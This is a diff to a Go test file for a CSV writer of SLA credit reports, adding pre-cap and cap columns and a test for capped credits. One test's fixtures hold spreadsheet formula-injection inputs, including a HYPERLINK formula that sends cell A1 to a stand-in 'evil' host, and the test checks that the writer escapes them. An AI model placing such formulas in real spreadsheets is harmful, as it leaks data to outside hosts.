@@ -28,9 +28,9 @@ func TestWriteCreditsFormulas(t *testing.T) {
 				{ID: "-12", CreditPct: "10", Credit: "100.00"},
 			}}}}},
 	}}}
-	want := "month,customer,service,site,level,item,credit_pct,credit,currency,level_credit,capped,claim_by,confirm_by,claim_status,claim_id,invoice_by,reason\n" +
-		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,'@SUM(1+1),-2.5,-5.00,EUR,95.00,false,2026-11-30,,"'` + "\r" + `claimed",'-2+3,,'` + "\t=1+1\n" +
-		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,-12,10,100.00,EUR,95.00,false,,,,,,` + "\n"
+	want := "month,customer,service,site,level,item,credit_pct,credit,currency,level_credit,capped,claim_by,confirm_by,claim_status,claim_id,invoice_by,reason,pre_cap,cap\n" +
+		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,'@SUM(1+1),-2.5,-5.00,EUR,95.00,false,2026-11-30,,"'` + "\r" + `claimed",'-2+3,,'` + "\t=1+1,,\n" +
+		`2026-10,acme,'+svc,"'=HYPERLINK(""http://evil/?""&A1,""x"")",t/mttr,-12,10,100.00,EUR,95.00,false,,,,,,,,` + "\n"
 	var b bytes.Buffer
 	if err := WriteCredits(&b, rep); err != nil {
 		t.Fatal(err)
@@ -66,5 +66,41 @@ func TestSafeCell(t *testing.T) {
 		if got := safeCell(tc.in); got != tc.want {
 			t.Errorf("safeCell(%q) = %q, want %q", tc.in, got, tc.want)
 		}
+	}
+}
+
+// Issue 12 item 5: every credits row carries the amount owed, after the
+// level's limit and the service's caps, with the amount before them and
+// the cap that reduced it in the last two columns. The loss level earned
+// 96.00, capped by aryaka/site-cap to 48.00; the jitter level 96.00,
+// capped to 0.00; an item earned 2000, capped to 500. The uptime level
+// was not reduced: no pre_cap, no cap.
+func TestWriteCreditsCapped(t *testing.T) {
+	claim := func(amount, pre, capID string) *engine.ClaimJSON {
+		return &engine.ClaimJSON{Amount: amount, PreCap: pre, Cap: capID, ClaimBy: "2026-12-31T23:59:59Z", Status: "claimed", ClaimID: "C1"}
+	}
+	rep := &engine.Report{Month: "2026-11", Currency: "USD", Customers: []engine.CustomerReport{{
+		ID: "acme",
+		Services: []engine.ServiceReport{{ID: "pc", Levels: []engine.LevelReport{
+			{Template: "aryaka/privatecore-uptime", CreditPct: "20", Credit: "192.00", Claim: claim("192.00", "", "")},
+			{Template: "aryaka/privatecore-loss", CreditPct: "10", Credit: "48.00", PreCap: "96.00", Cap: "aryaka/site-cap", CapApplied: true,
+				Claim: claim("48.00", "96.00", "aryaka/site-cap")},
+			{Template: "aryaka/privatecore-jitter", CreditPct: "10", Credit: "0.00", PreCap: "96.00", Cap: "aryaka/site-cap", CapApplied: true,
+				Claim: claim("0.00", "96.00", "aryaka/site-cap")},
+			{Template: "aryaka/anap-ha", CreditPct: "per item", Credit: "500", PreCap: "2000", Cap: "aryaka/site-cap", CapApplied: true,
+				Items: []engine.ItemJSON{{ID: "F2", CreditPct: "10", Credit: "500", PreCap: "2000", Cap: "aryaka/site-cap"}}},
+		}}},
+	}}}
+	want := "month,customer,service,site,level,item,credit_pct,credit,currency,level_credit,capped,claim_by,confirm_by,claim_status,claim_id,invoice_by,reason,pre_cap,cap\n" +
+		"2026-11,acme,pc,,aryaka/privatecore-uptime,,20,192.00,USD,192.00,false,2026-12-31T23:59:59Z,,claimed,C1,,,,\n" +
+		"2026-11,acme,pc,,aryaka/privatecore-loss,,10,48.00,USD,48.00,true,2026-12-31T23:59:59Z,,claimed,C1,,,96.00,aryaka/site-cap\n" +
+		"2026-11,acme,pc,,aryaka/privatecore-jitter,,10,0.00,USD,0.00,true,2026-12-31T23:59:59Z,,claimed,C1,,,96.00,aryaka/site-cap\n" +
+		"2026-11,acme,pc,,aryaka/anap-ha,F2,10,500,USD,500,true,,,,,,,2000,aryaka/site-cap\n"
+	var b bytes.Buffer
+	if err := WriteCredits(&b, rep); err != nil {
+		t.Fatal(err)
+	}
+	if b.String() != want {
+		t.Errorf("got\n%s\nwant\n%s", b.String(), want)
 	}
 }
